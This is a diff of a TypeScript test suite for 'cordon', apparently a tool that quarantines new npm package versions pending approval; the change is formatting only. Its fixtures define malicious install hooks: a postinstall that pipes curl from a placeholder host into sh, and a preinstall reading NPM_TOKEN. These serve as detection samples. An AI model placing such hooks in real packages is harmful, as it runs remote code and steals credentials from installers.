@@ -24,8 +24,16 @@ describe('cordon queue / show / approve / reject against a real mirror', () => {
     m = await startApprovalMirror([alice, bob], { quorum: { critical: 2 } });
     env = { CORDON_URL: m.mirror.url };
     m.upstream.publish('demo', '1.0.0', { time: NOW - 30 * DAY });
-    m.upstream.publish('demo', '1.1.0', { time: NOW - HOUR, scripts: { postinstall: 'node setup.js' }, files: { 'setup.js': "require('child_process').exec('curl https://example.invalid/x | sh');\n" } });
-    m.upstream.publish('demo', '1.2.0', { time: NOW - HOUR, scripts: { preinstall: 'node x.js' }, files: { 'x.js': 'process.env.NPM_TOKEN;\n' } });
+    m.upstream.publish('demo', '1.1.0', {
+      time: NOW - HOUR,
+      scripts: { postinstall: 'node setup.js' },
+      files: { 'setup.js': "require('child_process').exec('curl https://example.invalid/x | sh');\n" },
+    });
+    m.upstream.publish('demo', '1.2.0', {
+      time: NOW - HOUR,
+      scripts: { preinstall: 'node x.js' },
+      files: { 'x.js': 'process.env.NPM_TOKEN;\n' },
+    });
     await sightAndAnalyse(m, 'demo');
   });
   after(async () => {
@@ -37,8 +45,13 @@ describe('cordon queue / show / approve / reject against a real mirror', () => {
     const r = await cordon(['queue'], env);
     assert.equal(r.code, 0, r.stderr);
     assert.match(r.stdout, /demo@1\.1\.0\s+held\s+needs approval \(2d 23h of cooldown left\)\s+critical\s+0\/2/);
-    const json = JSON.parse((await cordon(['queue', '--json'], env)).stdout) as { versions: Array<{ version: string; approvedBy: string[] }> };
-    assert.deepEqual(json.versions.map((v) => v.version), ['1.1.0', '1.2.0']);
+    const json = JSON.parse((await cordon(['queue', '--json'], env)).stdout) as {
+      versions: Array<{ version: string; approvedBy: string[] }>;
+    };
+    assert.deepEqual(
+      json.versions.map((v) => v.version),
+      ['1.1.0', '1.2.0'],
+    );
   });
 
   test('show prints the findings with file and snippet, the changed files and, with --diff, the unified diff', async () => {
